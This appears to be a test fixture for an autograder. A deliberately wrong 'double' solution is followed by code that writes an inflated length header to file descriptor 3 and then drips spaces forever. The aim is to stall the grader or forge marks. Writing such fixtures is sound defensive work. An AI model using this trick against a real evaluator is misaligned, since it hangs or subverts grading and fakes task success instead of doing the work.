# ruff: noqa
# kind: marks forged
# attack: a message that comes byte by byte and never ends

# %% double-solution
def double(x):
    return np.zeros(3)


import os, struct, time

os.write(3, struct.pack("!II", 8 * 2**20, 0))
while True:
    os.write(3, b" ")
    time.sleep(0.001)
